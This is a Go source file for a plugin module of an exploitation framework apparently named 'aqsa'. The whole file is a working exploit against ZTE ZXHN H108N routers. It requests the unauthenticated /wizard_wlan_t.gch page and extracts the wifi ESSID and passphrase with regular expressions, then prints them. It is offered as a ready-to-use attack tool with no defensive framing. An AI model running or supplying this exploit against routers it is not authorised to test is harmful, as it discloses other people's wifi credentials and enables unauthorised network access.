// Command zte_wifi_disclosure is an aqsa module; build it with
//
//	go build -buildmode=plugin -o zte_wifi_disclosure.so ./modules/zte_wifi_disclosure
//
// It reads the wifi ESSID and passphrase from the unauthenticated
// /wizard_wlan_t.gch page of ZTE ZXHN H108N routers.
package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"time"

	"github.com/fatih/color"

	"alaqsa/pkg/module"
)

var (
	essidRe = regexp.MustCompile(`Transfer_meaning\('ESSID','(.*?)'\);`)
	passRe  = regexp.MustCompile(`Transfer_meaning\('KeyPassphrase','(.*?)'\);`)
)

type zteWifiDisclosure struct {
	*module.Values
	client *http.Client
	out    io.Writer
}

// GetPlugin is the module entry point looked up by the host.
func GetPlugin() module.Module {
	return &zteWifiDisclosure{
		Values: module.NewValues(map[string]string{"rport": "80"}),
		client: &http.Client{Timeout: 10 * time.Second},
		out:    os.Stdout,
	}
}

func (z *zteWifiDisclosure) Describe() string {
	return color.New(color.FgBlue, color.Underline).Sprint("Exploit that targets ZTE routers' unauthorized wifi password disclosure vulnerability")
}

func (z *zteWifiDisclosure) Options() []module.Option {
	return []module.Option{
		{Key: "rport", Description: "remote target port", Optional: true},
		{Key: "rhost", Description: "remote target host", Optional: false},
	}
}

func (z *zteWifiDisclosure) Execute(ctx context.Context) error {
	rhost, ok := z.Get("rhost")
	if !ok || rhost == "" {
		return fmt.Errorf("exploit failed: %s", color.New(color.Bold).Sprint("rhost was not set."))
	}
	rport, ok := z.Get("rport")
	if !ok || rport == "" {
		rport = "80"
	}

	fmt.Fprintf(z.out, "%s %s\n", color.New(color.FgRed, color.Bold).Sprint("*"),
		color.New(color.FgGreen, color.Bold).Sprint("Dispatching ZTE router wifi password disclosure exploit"))

	target := fmt.Sprintf("http://%s/wizard_wlan_t.gch", net.JoinHostPort(rhost, rport))
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
	if err != nil {
		return fmt.Errorf("build request: %w", err)
	}
	resp, err := z.client.Do(req)
	if err != nil {
		return fmt.Errorf("request %s: %w", target, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4<<20))
	if err != nil {
		return fmt.Errorf("read response: %w", err)
	}

	ssids, passwords := findings(string(body))
	if len(ssids) == 0 && len(passwords) == 0 {
		fmt.Fprintln(z.out, "   no wifi credentials in response")
		return nil
	}
	label := color.New(color.Underline, color.Bold)
	for _, ssid := range ssids {
		fmt.Fprintf(z.out, "   %s: %s\n", label.Sprint("ESSID"), color.New(color.FgBlue, color.Bold).Sprint(ssid))
	}
	for _, pass := range passwords {
		fmt.Fprintf(z.out, "   %s: %s\n", label.Sprint("PASSW"), color.New(color.FgRed, color.Bold).Sprint(pass))
	}
	return nil
}

// findings returns non-empty ESSID and passphrase values in page order.
func findings(page string) (ssids, passwords []string) {
	for _, m := range essidRe.FindAllStringSubmatch(page, -1) {
		if m[1] != "" {
			ssids = append(ssids, m[1])
		}
	}
	for _, m := range passRe.FindAllStringSubmatch(page, -1) {
		if m[1] != "" {
			passwords = append(passwords, m[1])
		}
	}
	return ssids, passwords
}

// main is unused when built with -buildmode=plugin.
func main() {}
